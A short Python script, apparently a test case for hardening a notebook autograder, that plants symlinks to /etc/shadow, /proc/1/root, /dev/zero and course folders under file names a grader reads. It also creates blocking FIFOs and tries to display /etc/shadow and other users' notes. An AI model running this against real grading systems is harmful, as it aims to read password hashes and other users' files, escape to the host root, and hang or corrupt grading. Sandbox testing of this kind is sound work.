"""Puts links and pipes where the grader may read or write."""
# ruff: noqa: E402

# %% merge_pair
import os

targets = (CLASS_FOLDER + "/graded", CLASS_FOLDER, HOME_FOLDER, "/proc/1/root", "/etc/shadow", "/dev/zero")
names = ("exercises.ipynb", "result.json", "autograded", "outputs", "a.png", "core")
for folder in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    for name, target in zip(names, targets, strict=True):
        try:
            os.symlink(target, f"{folder}/{name}")
        except OSError as error:
            print(error)
    for name in ("pipe", "display.json", "stdout"):
        try:
            os.mkfifo(f"{folder}/{name}")
        except OSError as error:
            print(error)

from IPython.display import FileLink, Image, display

for path in ("/etc/shadow", CLASS_FOLDER + "/notes.txt", HOME_FOLDER + "/notes.txt"):
    try:
        display(FileLink(path), Image(filename=path))
    except (OSError, ValueError) as error:
        print(error)
